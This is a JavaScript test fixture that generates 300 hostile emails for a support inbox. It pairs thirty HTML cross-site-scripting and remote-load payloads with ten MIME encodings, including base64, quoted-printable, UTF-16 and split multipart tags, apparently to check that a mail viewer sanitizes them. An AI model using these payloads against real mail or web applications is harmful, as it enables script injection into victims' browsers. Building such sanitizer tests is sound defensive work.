// Three hundred hostile mails: thirty ways to make a reader's browser do something, each written in ten ways. They come in as
// conversations of thirty, and are opened in a browser.

/** What each tries, with somewhere that nothing may ever call. */
function tries(canary) {
  return [
    `<script>alert(1)</script>`,
    `<script src="${canary}/a"></script>`,
    `<scr<script>ipt>alert(1)</scr</script>ipt>`,
    `<img src=x onerror=alert(1)>`,
    `<img src="${canary}/b" srcset="${canary}/c 2x" style="background:url(${canary}/d)">`,
    `<img/src/onerror=alert(1)//>`,
    `<svg onload=alert(1)><script>alert(2)</script></svg>`,
    `<svg><a xlink:href="javascript:alert(1)"><text>press</text></a><animate attributeName=href to=javascript:alert(1) /></svg>`,
    `<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>`,
    `<math><mi xlink:href="javascript:alert(1)">x</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
    `<iframe src="${canary}/e"></iframe><iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>`,
    `<object data="${canary}/f"></object><embed src="${canary}/g"><applet code="${canary}/h"></applet>`,
    `<a href="javascript:alert(1)">press</a>`,
    `<a href=" &#1;javascript&colon;alert(1)">press</a><a href="jav&#x09;ascript:alert(1)">or here</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press</a><a href="vbscript:msgbox(1)">or here</a>`,
    `<form action="${canary}/i" method=post><input name=csrf autofocus onfocus=alert(1)><button formaction="${canary}/j">Send</button></form>`,
    `<link rel=stylesheet href="${canary}/k"><link rel=preload as=image href="${canary}/l"><link rel=prefetch href="${canary}/m">`,
    `<style>@import "${canary}/n"; * { background: url(${canary}/o) } @font-face { font-family: a; src: url(${canary}/p) }</style>`,
    `<p style="position:fixed;inset:0;background:url('${canary}/q');width:expression(alert(1))">over everything</p>`,
    `<meta http-equiv=refresh content="0;url=${canary}/r"><meta http-equiv=set-cookie content="a=b"><base href="${canary}/s/">`,
    `<video src="${canary}/t" poster="${canary}/u" autoplay onloadstart=alert(1)></video><audio src="${canary}/v" autoplay></audio>`,
    `<body background="${canary}/w" onload=alert(1)><table background="${canary}/x"><tr><td background="${canary}/y">cell</td></tr></table>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
    `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><title><img title="</title><img src=x onerror=alert(1)>"></title>`,
    `<template><img src="${canary}/z"></template><slot onslotchange=alert(1)></slot><portal src="${canary}/aa"></portal>`,
    `<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee><select autofocus onfocus=alert(1)></select>`,
    `<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href="${canary}/bb"?>`,
    `</div></article></main><h1 id=main class="toast composer" data-focus data-menu>outside</h1><ar-live data-url="${canary}/cc"></ar-live>`,
    `<div hx-get="/agent" hx-trigger=load data-hx-get="${canary}/dd" accesskey=x contenteditable onkeydown=alert(1)>x</div>`,
    `<blockquote cite="${canary}/ee"><q cite="javascript:alert(1)">x</q><img longdesc="${canary}/ff" usemap="#m"><map name=m><area href="javascript:alert(1)" shape=default></map></blockquote>`,
  ];
}

const base64 = (text) => Buffer.from(text).toString("base64").replace(/.{76}/g, "$&\r\n");
const quoted = (text) =>
  [...Buffer.from(text)].map((byte) => `=${byte.toString(16).toUpperCase().padStart(2, "0")}`).join("").replace(/(.{72})/g, "$1=\r\n");

/** How a mail says it: content type and what follows the head. */
const ways = [
  (html) => ["text/html; charset=utf-8", "8bit", html],
  (html) => ["text/html; charset=utf-8", "base64", base64(html)],
  (html) => ["text/html; charset=utf-8", "quoted-printable", quoted(html)],
  (html) => ["text/html; charset=utf-16le", "base64", Buffer.from(html, "utf16le").toString("base64").replace(/.{76}/g, "$&\r\n")],
  (html) => ["multipart/alternative; boundary=b", "8bit", `--b\r\nContent-Type: text/plain\r\n\r\nkanariefågel\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n--b--`],
  (html) => ["multipart/related; boundary=b", "8bit", `--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<img src="cid:p">${html}\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <p>\r\nContent-Disposition: inline; filename=p.png\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename=p.svg\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\r\n--b--`],
  (html) => ["multipart/mixed; boundary=b", "8bit", `--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n--b\r\nContent-Type: text/html; name=page.html\r\nContent-Disposition: attachment; filename=page.html\r\n\r\n${html}\r\n--b`],
  // The beginning of a tag at the end of one part, and its rest in the next.
  (html) => ["multipart/mixed; boundary=b", "8bit", `--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p title="\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n">${html}\r\n--b--`],
  (html) => ["text/html; charset=utf-8", "8bit", html.replace(/<(\/?)([a-z])/g, (_, slash, first) => `<${slash}${first.toUpperCase()}`).replaceAll("=", " = ").replaceAll("> <", ">\0<")],
  (html) => ["text/html; charset=utf-8", "8bit", `<div class="gmail_quote"><blockquote>${html}</blockquote></div>${html}<div id="divRplyFwdMsg">${html}`],
];

/** Ten conversations of thirty mails: each mail but the first answers the first one. */
export function hostile_conversations(canary) {
  return ways.map((way, which) =>
    tries(canary).map((html, number) => {
      const [type, encoding, body] = way(`<p>kanariefågel ${which}-${number}</p>${html}`);
      const head = [
        `From: "Eve ${which}" <eve${which}@evil.example>`,
        "To: support@localhost.localdomain",
        `Subject: Conversation ${which}`,
        `Message-ID: <${which}-${number}@evil.example>`,
        ...(number ? [`In-Reply-To: <${which}-0@evil.example>`] : []),
        "MIME-Version: 1.0",
        `Content-Type: ${type}`,
        `Content-Transfer-Encoding: ${encoding}`,
      ];
      return `${head.join("\r\n")}\r\n\r\n${body}\r\n`;
    }),
  );
}
